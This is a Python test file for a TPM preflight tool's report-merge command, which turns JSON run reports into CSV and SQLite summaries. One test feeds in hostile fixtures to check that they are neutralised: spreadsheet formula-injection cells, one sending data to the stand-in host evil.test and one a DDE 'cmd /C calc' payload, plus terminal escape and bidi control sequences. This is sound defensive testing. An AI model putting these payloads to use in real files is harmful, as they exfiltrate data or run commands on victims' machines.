"""`preflight report merge`: reports from several runs become CSV rows and SQLite tables with summaries by verdict,
failing check and model; bad, partial and foreign JSON files are named and skipped without stopping the merge."""
import csv
import json
import os
import sqlite3
import subprocess

from harness import Swtpm, Workspace, check, provisioned_state, test_cabs


def test_report_merge_csv_sqlite_and_bad_files(build):
    tool = os.path.join(build, "asan/preflight")
    with Workspace(build) as work:
        reports = os.path.join(work, "reports")
        os.mkdir(reports)
        tpm = Swtpm(provisioned_state(build, os.path.join(work, "tpm")))
        try:
            for cab in ("good", "aik-removed", "no-intermediate"):
                subprocess.run([tool, "check", "--offline", "--tpm", tpm.spec(), "--trust", os.path.join(test_cabs(build), cab + ".cab"),
                                "--virtual-tpm-warn", "--report-dir", reports], capture_output=True, timeout=60)
        finally:
            tpm.stop()
        good = sorted(n for n in os.listdir(reports) if n.endswith(".json"))
        check(len(good) == 3, f"expected three reports, found {good}")
        with open(os.path.join(reports, good[0]), "rb") as f:
            truncated = f.read()[:300]
        for name, content in (("partial.json", truncated), ("garbage.json", b"\x00\xff{{{"),
                              ("other.json", b'{"schema": "something-else", "checks": []}')):
            with open(os.path.join(reports, name), "wb") as f:
                f.write(content)
        out_csv, out_db = os.path.join(work, "runs.csv"), os.path.join(work, "runs.sqlite")
        out = subprocess.run([tool, "report", "merge", reports, os.path.join(work, "missing-dir"), "--csv", out_csv,
                              "--sqlite", out_db], capture_output=True, text=True, timeout=60)
        check(out.returncode == 0, f"exit {out.returncode}: {out.stderr}")
        for name in ("partial.json", "garbage.json", "other.json", "missing-dir"):
            check(f"SKIPPED  " in out.stderr and name in out.stderr, f"{name} not named: {out.stderr}")
        check("MERGED   3 run(s), 4 file(s) skipped" in out.stdout, out.stdout)
        check("FAILING  aik.authority.listed: 1 run(s)" in out.stdout and "FAILING  ek.chain: 1 run(s)" in out.stdout,
              out.stdout)
        with open(out_csv, newline="") as f:
            rows = list(csv.DictReader(f))
        check(sorted(r["verdict"] for r in rows) == ["NOT READY", "NOT READY", "READY WITH WARNINGS"], str(rows))
        check(all(r["tpm_vendor"] == "IBM" and r["tpm_firmware"] for r in rows), str(rows))
        db = sqlite3.connect(out_db)
        by_verdict = dict(db.execute("SELECT verdict, runs FROM summary_by_verdict"))
        check(by_verdict == {"NOT READY": 2, "READY WITH WARNINGS": 1}, str(by_verdict))
        by_check = dict(db.execute("SELECT check_id, runs FROM summary_by_check"))
        check(by_check == {"aik.authority.listed": 1, "ek.chain": 1}, str(by_check))
        check(db.execute("SELECT SUM(runs) FROM summary_by_model").fetchone()[0] == 3, "model summary")


def test_report_merge_reads_both_schemas(build):
    """A schema-1 report (a strict warning written as "fail") and a schema-2 one (a warning that counts as a failure)
    merge alike: both name the check as failing."""
    tool = os.path.join(build, "asan/preflight")
    with Workspace(build) as work:
        reports = os.path.join(work, "reports")
        os.mkdir(reports)
        old = {"schema": "tpm-preflight/report/1", "verdict": "NOT READY", "started_utc": "2026-01-01T00:00:00Z",
               "checks": [{"id": "clock.skew", "status": "fail", "predicts": "0x80072F8F"}]}
        new = {"schema": "tpm-preflight/report/2", "verdict": "NOT READY", "started_utc": "2026-01-02T00:00:00Z",
               "checks": [{"id": "clock.skew", "status": "warn", "reason": "clock.skew/clock-off",
                           "counts_as_failure": True, "predicts": "0x80072F8F"},
                          {"id": "tpm.virtual", "status": "warn", "reason": "tpm.virtual/virtual-tpm",
                           "counts_as_failure": False}]}
        for name, report in (("old.json", old), ("new.json", new)):
            with open(os.path.join(reports, name), "w") as f:
                json.dump(report, f)
        out = subprocess.run([tool, "report", "merge", reports], capture_output=True, text=True, timeout=60)
        check(out.returncode == 0 and "MERGED   2 run(s)" in out.stdout, out.stdout + out.stderr)
        check("FAILING  clock.skew: 2 run(s)" in out.stdout and "FAILING  tpm.virtual" not in out.stdout, out.stdout)
        check("WARNING  tpm.virtual: 1 run(s)" in out.stdout, out.stdout)


def line_report(serial, started, run_id, verdict, failing=(), warning=()):
    checks = [{"id": "platform.info", "status": "pass", "evidence": {"serial": serial, "product": "Bench PC 5"}}]
    checks += [{"id": i, "status": "fail", "reason": f"{i}/x", "counts_as_failure": True, "predicts": "0x81039001"}
               for i in failing]
    checks += [{"id": i, "status": "warn", "reason": f"{i}/y", "counts_as_failure": False} for i in warning]
    return {"schema": "tpm-preflight/report/2", "verdict": verdict, "started_utc": started, "run_id": run_id,
            "checks": checks}


def test_report_merge_for_the_line(build):
    """What a line engineer asks of a day's reports: one row per run even when a run was saved twice (the result
    screen's `s`), each unit by its latest run (a unit that failed and then passed is ready), the units that are
    not ready named with their failing checks, warnings in a column of their own, and runs whose serial number is
    a placeholder flagged instead of being taken for one unit."""
    tool = os.path.join(build, "asan/preflight")
    runs = [("a1.json", line_report("PF-0001", "2026-12-01T08:00:00Z", "1111", "NOT READY", ["ek.chain"])),
            ("a1-saved-again.json", line_report("PF-0001", "2026-12-01T08:00:00Z", "1111", "NOT READY", ["ek.chain"])),
            ("a2.json", line_report("PF-0001", "2026-12-01T09:00:00Z", "2222", "READY")),
            ("b1.json", line_report("PF-0002", "2026-12-01T08:30:00Z", "3333", "NOT READY", ["tpm.present"],
                                    ["clock.skew"])),
            ("c1.json", line_report("To Be Filled By O.E.M.", "2026-12-01T08:40:00Z", "4444", "READY WITH WARNINGS",
                                    warning=["tpm.virtual"])),
            ("c2.json", line_report("To Be Filled By O.E.M.", "2026-12-01T08:50:00Z", "5555", "READY"))]
    with Workspace(build) as work:
        reports = os.path.join(work, "reports")
        os.mkdir(reports)
        for name, report in runs:
            with open(os.path.join(reports, name), "w") as f:
                json.dump(report, f)
        paths = {k: os.path.join(work, k) for k in ("all.csv", "latest.csv", "runs.sqlite")}
        out = subprocess.run([tool, "report", "merge", reports, "--csv", paths["all.csv"], "--latest-csv",
                              paths["latest.csv"], "--sqlite", paths["runs.sqlite"]], capture_output=True, text=True,
                             timeout=60)
        check(out.returncode == 0, out.stdout + out.stderr)
        check("MERGED   5 run(s), 0 file(s) skipped, 1 repeated save(s)" in out.stdout, out.stdout)
        check("UNITS    4 by their latest run: 2 ready, 1 ready with warnings, 1 not ready" in out.stdout, out.stdout)
        check("UNIT     PF-0002 NOT READY (2026-12-01T08:30:00Z): failing tpm.present; warnings clock.skew"
              in out.stdout and "UNIT     PF-0001" not in out.stdout, out.stdout)
        check(out.stdout.count("serial number placeholder (\"To Be Filled By O.E.M.\")") == 2, out.stdout)
        with open(paths["all.csv"], newline="") as f:
            every = list(csv.DictReader(f))
        with open(paths["latest.csv"], newline="") as f:
            latest = list(csv.DictReader(f))
        check(len(every) == 5 and len(latest) == 4, f"{len(every)} rows, {len(latest)} latest")
        pf1 = [r for r in latest if r["serial"] == "PF-0001"]
        check(len(pf1) == 1 and pf1[0]["verdict"] == "READY" and pf1[0]["run_id"] == "2222", str(pf1))
        c1 = [r for r in every if r["run_id"] == "4444"][0]
        check(c1["warnings"] == "tpm.virtual" and c1["failing"] == "" and c1["serial_flag"] == "placeholder", str(c1))
        db = sqlite3.connect(paths["runs.sqlite"])
        check(db.execute("SELECT COUNT(*) FROM latest_by_serial").fetchone()[0] == 4, "latest view")
        check(dict(db.execute("SELECT check_id, runs FROM summary_warnings_by_check")) ==
              {"clock.skew": 1, "tpm.virtual": 1}, "warnings view")


def test_reports_of_two_runs_have_their_own_run_id(build):
    """Each run's report carries a run_id of its own (what lets the merge tell a second save from a second run)."""
    tool = os.path.join(build, "asan/preflight")
    ids = set()
    for _ in range(2):
        out = subprocess.run([tool, "check", "--offline", "--tpm", "device:/nonexistent", "--json"],
                             capture_output=True, text=True, timeout=60)
        ids.add(json.loads(out.stdout)["run_id"])
    check(len(ids) == 2 and all(len(i) == 16 for i in ids), str(ids))


def hostile_report(serial, verdict, failing_id, predicts):
    """A report as a tampered stick could carry it: cells that are formulas, terminal controls in printed fields."""
    return {"schema": "tpm-preflight/report/1", "verdict": verdict, "started_utc": "+2026-01-01T00:00:00Z",
            "checks": [{"id": "platform.info", "status": "pass",
                        "evidence": {"serial": serial, "system_manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0",
                                     "product": "Model\u001b[2J\u001b]0;owned\u0007 \u009b31m\u202eX",
                                     "bios_version": "-2+3"}},
                       {"id": "tpm.identity", "status": "pass", "evidence": {"manufacturer": "\tIFX",
                                                                               "firmware_version": "\r=1"}},
                       {"id": failing_id, "status": "fail", "predicts": predicts}]}


def test_report_merge_neutralises_formulas_and_controls(build):
    """CSV cells that start with = + - @ TAB CR get a leading apostrophe (a spreadsheet would run them as formulas);
    control characters from reports and file names never reach the terminal, the CSV or the database."""
    tool = os.path.join(build, "asan/preflight")
    with Workspace(build) as work:
        reports = os.path.join(work, "reports")
        os.mkdir(reports)
        rows = (("=HYPERLINK(\"http://evil.test/?\"&A1)", "NOT READY\u001b[2J\rVERDICT  READY", "ek.chain\u001b[31m",
                 "+0x80090016\nFAILING  x"),
                ("plain-serial", "READY", "aik.authority.listed", "none"))
        for i, (serial, verdict, failing, predicts) in enumerate(rows):
            with open(os.path.join(reports, f"run{i}.json"), "w") as f:
                json.dump(hostile_report(serial, verdict, failing, predicts), f)
        with open(os.path.join(reports, "bad\x1b[2Jname.json"), "wb") as f:
            f.write(b"{")
        out_csv, out_db = os.path.join(work, "runs.csv"), os.path.join(work, "runs.sqlite")
        out = subprocess.run([tool, "report", "merge", reports, "--csv", out_csv, "--sqlite", out_db],
                             capture_output=True, timeout=60)
        check(out.returncode == 0, f"exit {out.returncode}: {out.stderr}")
        printed = out.stdout + out.stderr
        controls = sorted({c for c in printed.decode("utf-8", "replace") if (ord(c) < 0x20 and c != "\n")
                           or 0x7F <= ord(c) < 0xA0 or c == "\u202e"})
        check(not controls, f"control characters printed: {controls!r} in {printed!r}")
        check(b"SKIPPED  " in out.stderr and b"bad?[2Jname.json" in out.stderr, out.stderr)
        check(b"\nVERDICT  READY: 1\n" in out.stdout, f"the injected line is the only READY one: {out.stdout!r}")
        with open(out_csv, "rb") as f:
            raw = f.read()
        check(not [b for b in raw.replace(b"\r\n", b"") if b < 0x20 or b == 0x7F], f"controls in the CSV: {raw!r}")
        with open(out_csv, newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        check(not risky, f"cells a spreadsheet runs as formulas: {risky}")
        check("'=HYPERLINK(\"http://evil.test/?\"&A1)" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
              and "'-2+3" in cells and "'+2026-01-01T00:00:00Z" in cells, str(cells))
        db = sqlite3.connect(out_db)
        stored = [v for row in db.execute("SELECT * FROM runs") for v in row if isinstance(v, str)]
        check(not [v for v in stored if any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in v)], str(stored))


def test_report_merge_takes_every_file_of_a_large_line(build):
    """A line's share holds thousands of reports: every one is merged (none dropped past a fixed count), and a report
    a reset left as <name>.json.tmp (between removing the old file and renaming the new one) is read when its
    <name>.json is missing, never beside it."""
    tool = os.path.join(build, "host/preflight")
    units = 4200
    with Workspace(build) as work:
        reports = os.path.join(work, "reports")
        os.mkdir(reports)
        for i in range(units):
            with open(os.path.join(reports, f"PF-{i:05d}-20260101T000000Z.json"), "w") as f:
                json.dump(line_report(f"PF-{i:05d}", "2026-01-01T00:00:00Z", f"r{i}", "READY"), f)
        with open(os.path.join(reports, "PF-00001-20260101T000000Z.json.tmp"), "w") as f:  # beside its .json: ignored
            json.dump(line_report("PF-00001", "2026-01-01T00:00:00Z", "r1", "NOT READY", ["ek.chain"]), f)
        with open(os.path.join(reports, "PF-99999-20260101T000000Z.json.tmp"), "w") as f:  # alone: the run's report
            json.dump(line_report("PF-99999", "2026-01-01T00:00:00Z", "r99999", "NOT READY", ["ek.chain"]), f)
        out_csv = os.path.join(work, "runs.csv")
        out = subprocess.run([tool, "report", "merge", reports, "--csv", out_csv], capture_output=True, text=True,
                             timeout=120)
        check(out.returncode == 0, f"exit {out.returncode}: {out.stderr[-2000:]}")
        check(f"MERGED   {units + 1} run(s)" in out.stdout, out.stdout[-2000:])
        with open(out_csv, newline="") as f:
            rows = list(csv.DictReader(f))
        not_ready = sorted(r["serial"] for r in rows if r["verdict"] == "NOT READY")
        check(not_ready == ["PF-99999"], f"NOT READY rows: {not_ready}")
